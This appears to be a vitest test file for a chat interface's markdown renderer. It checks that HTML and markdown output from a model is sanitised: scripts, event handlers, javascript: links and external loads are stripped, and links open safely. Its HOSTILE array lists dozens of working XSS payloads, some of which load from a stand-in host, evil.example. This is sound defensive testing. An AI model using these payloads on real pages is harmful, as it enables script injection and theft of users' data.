import { beforeAll, describe, expect, it } from "vitest";
import { advance, noBlocks } from "./blocks.ts";
import { renderBlock, renderHighlighted } from "./render.ts";
import { loadRepair } from "./repair.ts";

beforeAll(() => loadRepair());

const draw = (raw: string, live = false) => renderBlock(raw, { live, links: {} });
const html = (raw: string, live = false) => draw(raw, live).innerHTML.trim();

/** What a model might write to be run, loaded or clicked. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='javascript:alert(1)'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action='javascript:alert(1)'><button>x</button></form>",
  "<details open ontoggle=alert(1)>x</details>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<b onmouseover=alert(1)>x</b>",
  "<sub style='background:url(javascript:alert(1))'>x</sub>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/chats)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  '![x](https://evil.example/p.png" onerror="alert(1))',
  "<javascript:alert(1)>",
  "[ref]: javascript:alert(1)\n\n[ref]",
  "`</code><script>alert(1)</script>`",
  "```\n</code></pre><script>alert(1)</script>\n```",
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  "| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [x](javascript:alert(1)) | d |",
  "- <img src=x onerror=alert(1)>\n  <script>alert(1)</script>",
  "> <iframe src=javascript:alert(1)>",
  "</div></div><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
];

const DANGEROUS =
  "script, img, svg, math, iframe, object, embed, form, button, style, base, meta, link, template, video";

function expectHarmless(root: Element, source: string) {
  expect(root.querySelector(DANGEROUS), source).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      expect(
        name.startsWith("on") || ["style", "src", "srcdoc", "id", "name"].includes(name),
        `${source}: ${name}`,
      ).toBe(false);
    }
    const href = element.getAttribute("href");
    if (href !== null) expect(href, source).toMatch(/^(https?:|mailto:)/i);
  }
}

describe("hostile output", () => {
  it.each(HOSTILE)("does nothing: %s", (source) => {
    expectHarmless(draw(source), source);
  });

  it.each(HOSTILE)("does nothing at any point of its coming: %s", (source) => {
    for (let at = 1; at <= source.length; at += 3) {
      for (const { raw } of advance(noBlocks, source.slice(0, at), false).blocks) {
        expectHarmless(draw(raw, true), source.slice(0, at));
      }
    }
  });

  it("is shown as the text it is: nothing of an answer vanishes", () => {
    expect(draw("<script>alert(1)</script>").textContent.trim()).toBe("<script>alert(1)</script>");
    expect(draw("use Array<T> and <T extends U>").textContent.trim()).toBe("use Array<T> and <T extends U>");
  });

  it("leaves highlighted code its spans only", () => {
    const host = document.createElement("div");
    host.append(...renderHighlighted('<span class="hljs-keyword" onclick="x">let</span><img src=x onerror=alert(1)>'));
    expect(host.innerHTML).toBe('<span class="hljs-keyword">let</span>');
  });
});

describe("renderBlock", () => {
  it("opens links elsewhere and tells them nothing", () => {
    const link = draw("[x](https://example.com)").querySelector("a");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
  });

  it("makes an image a link: loading it would tell its server that it was read", () => {
    expect(draw("![a cat](https://example.com/cat.png)").querySelector("a")?.href).toBe("https://example.com/cat.png");
  });

  it("keeps bare inline tags, line breaks and the alignment of columns", () => {
    expect(html("H<sub>2</sub>O")).toBe("<p>H<sub>2</sub>O</p>");
    expect(html("a\nb")).toBe("<p>a<br>b</p>");
    expect(draw("| a |\n| -: |\n| 1 |").querySelector("td")?.getAttribute("align")).toBe("right");
    expect(draw("7. x").querySelector("ol")?.getAttribute("start")).toBe("7");
    expect(draw("- [x] done").querySelector<HTMLInputElement>("input")?.disabled).toBe(true);
  });

  it("closes what a growing line left open", () => {
    expect(html("some **bold te", true)).toBe("<p>some <strong>bold te</strong></p>");
    expect(html("see [the li", true)).toBe("<p>see the li</p>");
    expect(html("some **bold te", false)).toBe("<p>some **bold te</p>");
  });

  it("resolves a reference by definitions from elsewhere in the answer", () => {
    const links = { ref: { href: "https://example.com", title: "" } };
    expect(renderBlock("[x][ref]", { live: false, links }).querySelector("a")?.href).toBe("https://example.com/");
  });
});

describe("headings", () => {
  const tag = (raw: string, firstHeading?: number) =>
    renderBlock(raw, { live: false, links: {}, firstHeading }).firstElementChild?.tagName;

  it("stand below the page's and the answer's own, from the answer's first one on", () => {
    expect(tag("# a", 1)).toBe("H3");
    expect(tag("### a", 3)).toBe("H3");
    expect(tag("#### a", 3)).toBe("H4");
    expect(tag("# a", 3)).toBe("H3");
    expect(tag("###### a", 1)).toBe("H6");
  });
});
